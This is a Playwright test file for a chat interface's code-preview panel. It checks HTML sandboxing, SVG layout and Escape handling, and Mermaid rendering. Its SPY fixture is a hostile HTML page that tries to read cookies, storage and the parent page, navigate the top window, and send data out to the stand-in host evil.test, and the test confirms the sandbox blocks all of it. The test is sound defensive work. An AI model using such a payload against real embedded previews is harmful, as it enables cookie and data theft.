import type { Page } from '@playwright/test';
import { chatRow, keepRows, messageRow } from '../support/chat-rows';
import { expect, signIn, test } from '../support/fixtures';
import { expectAccessible } from '../support/expect-accessible';

test.beforeEach(async ({ page }) => {
  await signIn(page);
});

/** Shows an answer with a code block, and its preview. */
async function preview(page: Page, language: string, code: string): Promise<void> {
  const text = `Here:\n\n\`\`\`${language}\n${code}\n\`\`\``;
  const answer = messageRow({ id: 'a', chatId: 'c', parentId: 'q', role: 'assistant', modelId: 'm', text });
  await keepRows(page, {
    chats: [chatRow({ id: 'c', leafId: 'a' })],
    messages: [messageRow({ id: 'q', chatId: 'c' }), answer],
  });
  await page.goto('/chat?id=c');
  await page.getByRole('button', { name: 'Preview' }).click();
}

const SPY = `<!doctype html>
<title>Spy</title>
<h1 id="title">Hello</h1>
<img src="https://evil.test/image.png">
<link rel="stylesheet" href="https://evil.test/style.css">
<script src="https://evil.test/script.js"></script>
<form action="https://evil.test/form"><input name="a"></form>
<script>
  const seen = [];
  const tries = {
    parent: () => parent.document.title,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    top: () => { top.location.href = 'https://evil.test/top'; return 'navigated'; },
    popup: () => open('https://evil.test/popup') === null ? 'none' : 'opened',
  };
  for (const [name, run] of Object.entries(tries)) {
    try { seen.push(name + ': ' + run()); } catch (error) { seen.push(name + ': refused'); }
  }
  document.forms[0].submit();
  fetch('https://evil.test/fetch').catch(() => fetch('/api/v1/models')).then(
    () => seen.push('fetch: answered'),
    () => seen.push('fetch: refused'),
  ).finally(() => {
    document.getElementById('title').textContent = seen.join(', ');
    // Shown long enough to be read.
    setTimeout(() => { location.href = 'https://evil.test/navigated?' + document.title; }, 2_000);
  });
</script>`;

test('HTML runs in a frame that reaches neither the network nor the page', async ({ page, baseURL }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(baseURL) && !request.url().startsWith('data:')) foreign.push(request.url());
  });
  await preview(page, 'html', SPY);
  const frame = page.frameLocator('iframe[title="Preview"]');
  await expect(frame.getByRole('heading')).toHaveText(
    'parent: refused, cookie: refused, storage: refused, top: refused, popup: none, fetch: refused',
  );
  // The frame may go nowhere else, either: the browser shows an error instead.
  await expect(frame.getByRole('heading', { name: /^parent/ })).toHaveCount(0);
  await page.waitForTimeout(500);
  expect(foreign).toEqual([]);
  expect(page.url()).toContain('/chat?id=c');
  await page.getByRole('button', { name: 'Close preview' }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('an SVG is shown beside the messages, and closes with Escape', async ({ page }) => {
  await preview(page, 'svg', '<svg viewBox="0 0 10 10" width="100"><circle id="dot" cx="5" cy="5" r="4"/></svg>');
  const panel = page.getByRole('region', { name: 'Preview' });
  await expect(page.frameLocator('iframe[title="Preview"]').locator('#dot')).toBeVisible();
  const [panelBox, codeBox] = [
    await panel.boundingBox(),
    await page.getByRole('group', { name: 'svg code' }).boundingBox(),
  ];
  expect((codeBox?.x ?? 0) + (codeBox?.width ?? 0)).toBeLessThanOrEqual(panelBox?.x ?? 0);
  await expectAccessible(page);
  await panel.getByRole('button', { name: 'Copy code' }).focus();
  await page.keyboard.press('Escape');
  await expect(panel).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Preview' })).toBeFocused();
});

test('where there is no space beside the messages, a preview takes the place of its code', async ({ page }) => {
  await page.setViewportSize({ width: 1000, height: 800 });
  await preview(page, 'html', '<h1>Hello</h1>');
  await expect(page.frameLocator('iframe[title="Preview"]').getByRole('heading', { name: 'Hello' })).toBeVisible();
  await expect(page.getByRole('group', { name: 'html code' })).toHaveCount(0);
  await page.getByTestId('assistant-message').getByRole('button', { name: 'Code', exact: true }).click();
  await expect(page.getByRole('group', { name: 'html code' })).toBeVisible();
});

test('a diagram is drawn, and one of another kind says that it cannot be', async ({ page }) => {
  await preview(page, 'mermaid', 'graph TD\n  A[Order] --> B{Paid?}\n  B -->|Yes| C[Ship]');
  const frame = page.frameLocator('iframe[title="Preview"]');
  for (const text of ['Order', 'Paid?', 'Yes', 'Ship']) await expect(frame.getByText(text)).toBeVisible();
  await expectAccessible(page);
  await preview(page, 'mermaid', 'gantt\n  title Plan');
  await expect(page.getByText('This diagram cannot be drawn here')).toBeVisible();
});
